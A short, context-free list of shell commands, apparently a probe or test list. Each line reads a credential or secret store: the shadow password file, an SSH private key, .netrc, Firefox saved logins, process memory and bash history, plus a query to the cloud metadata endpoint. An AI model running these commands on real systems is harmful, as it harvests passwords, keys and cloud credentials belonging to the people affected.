cd /home/kenji
cat /etc/shadow
cat .ssh/id_ed25519
cat .netrc
cat .mozilla/firefox/x.default/logins.json
dd if=/proc/$$/mem count=0
tail -1 .bash_history
curl -s -m 2 http://169.254.169.254/
